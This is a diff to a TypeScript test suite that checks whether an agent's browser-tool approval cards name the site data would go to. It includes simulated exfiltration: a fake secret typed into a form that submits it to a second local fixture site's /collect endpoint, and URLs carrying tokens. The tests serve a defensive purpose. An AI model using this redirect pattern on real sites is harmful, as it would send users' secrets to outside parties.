@@ -12,7 +12,8 @@ import { startBrowserSite, type TBrowserSite } from "../fixtures/browser-site/se
  * and their execution) drive the real worker and Chromium, without a chat run around them: the
  * preview is what the approval card shows, and executing with `sensitive: true` is what runs after
  * Approve. Two fixture sites, both allow-listed, so that a re-pointed form could really reach the
- * other one.
+ * other one; the session allows only the first (egress), and the card names the other when an
+ * action would send data there.
  */
 const chromium = findChromium();
 if (!chromium) throw new Error("These tests need Chromium (apt-get install chromium, or CHROMIUM_PATH).");
@@ -21,13 +22,14 @@ let site: TBrowserSite;
 let other: TBrowserSite;
 let worker: TBrowserWorker;
 let tools: Map<string, TTool>;
+let workerSecret: string;
 
 beforeAll(async () => {
   site = await startBrowserSite();
   other = await startBrowserSite();
-  const secret = randomBytes(24).toString("hex");
+  workerSecret = randomBytes(24).toString("hex");
   worker = await startBrowserWorker({
-    secret,
+    secret: workerSecret,
     executablePath: chromium,
     allowedPrivateHosts: [site.host, other.host],
     maxContexts: 10,
@@ -36,7 +38,7 @@ beforeAll(async () => {
     networkIdleMs: 1_000,
     contentPageCharacters: 8_000,
   });
-  tools = new Map(createBrowserTools(new BrowserWorkerClient({ url: worker.url, secret })).map((tool) => [tool.name, tool]));
+  tools = new Map(createBrowserTools(new BrowserWorkerClient({ url: worker.url, secret: workerSecret }), { egress: "ask" }).map((tool) => [tool.name, tool]));
 }, 60_000);
 afterAll(async () => {
   await worker?.close(1_000);
@@ -50,7 +52,14 @@ beforeEach(() => {
 
 let sessionCounter = 0;
 function newContext(): TToolContext {
-  return { userId: "user-a", sessionId: `binding-${++sessionCounter}-${randomBytes(3).toString("hex")}`, signal: new AbortController().signal, stepId: "", progress: () => {} };
+  return {
+    userId: "user-a",
+    sessionId: `binding-${++sessionCounter}-${randomBytes(3).toString("hex")}`,
+    allowedOrigins: [site.url],
+    signal: new AbortController().signal,
+    stepId: "",
+    progress: () => {},
+  };
 }
 
 async function run(name: string, input: unknown, context: TToolContext): Promise<{ text: string; isError: boolean }> {
@@ -118,5 +127,49 @@ describe("an approved browser action is bound to where it sends data", () => {
     );
     expect(other.submissions).toEqual([]);
     expect(site.submissions).toEqual([]);
+  });
+});
+
+describe("the approval card names the site data would go to", () => {
+  it("shows the whole address and its site for a navigation to a site the chat does not allow", async () => {
+    const context = newContext();
+    const address = `${other.url}/collect?secret=sk-test-123&next=%2Fhome#token=abc`;
+    expect(tools.get("browser_navigate")!.riskOf!({ url: address, sensitive: true })).toBe("external");
+    expect(tools.get("browser_navigate")!.riskOf!({ url: address })).toBe("read");
+    const card = await tools.get("browser_navigate")!.preview!({ url: address, sensitive: true }, context);
+    expect(card).toEqual({
+      title: `Open ${other.host}`,
+      detail: `Opens ${address}\nEverything in this address, including anything after "?" or "#", goes to ${other.url} (its server and its pages' scripts), a site not yet allowed in this chat.`,
+      origin: other.url,
+    });
+    // An allowed site needs no "always allow".
+    const allowed = await tools.get("browser_navigate")!.preview!({ url: `${site.url}/form.html`, sensitive: true }, context);
+    expect(allowed).toEqual({ title: `Open ${site.host}`, detail: `Opens ${site.url}/form.html\n${site.url} is allowed in this chat.` });
+    expect(other.requests).toEqual([]);
+  });
+
+  it("names the other site for a click that opens it, and only that click may go there after Approve", async () => {
+    const context = newContext();
+    await run("browser_navigate", { url: `${site.url}/exfil-get-form.html?to=${encodeURIComponent(other.url)}` }, context);
+    await run("browser_type", { selector: "#q", text: "sk-test-123" }, context);
+    const refused = await run("browser_click", { selector: "#go" }, context);
+    expect(refused.isError).toBe(true);
+    const card = await preview({ selector: "#go", sensitive: true }, context);
+    expect(card.title).toBe(`Click "Go" on ${site.host} (submits the form to ${other.url} with GET)`);
+    expect(card.origin).toBe(other.url);
+    expect(other.requests).toEqual([]);
+    const submitted = await run("browser_click", { selector: "#go", sensitive: true }, context);
+    expect(submitted.text).toContain('Navigated to "Collected"');
+    expect(other.collected).toEqual([{ method: "GET", path: "/collect", query: "?q=sk-test-123", body: "" }]);
+  });
+
+  it("with browser.egress: allow, opens any site without asking and offers no site on the card", async () => {
+    const open = new Map(createBrowserTools(new BrowserWorkerClient({ url: worker.url, secret: workerSecret }), { egress: "allow" }).map((tool) => [tool.name, tool]));
+    const context = { ...newContext(), allowedOrigins: [] };
+    const result = (await open.get("browser_navigate")!.execute({ url: `${other.url}/collect?q=1` }, context)) as TToolResult;
+    expect(result.isError ?? false).toBe(false);
+    const card = await open.get("browser_navigate")!.preview!({ url: `${other.url}/landing.html`, sensitive: true }, context);
+    expect(card.origin).toBeUndefined();
+    expect(other.collected).toEqual([{ method: "GET", path: "/collect", query: "?q=1", body: "" }]);
   });
 });
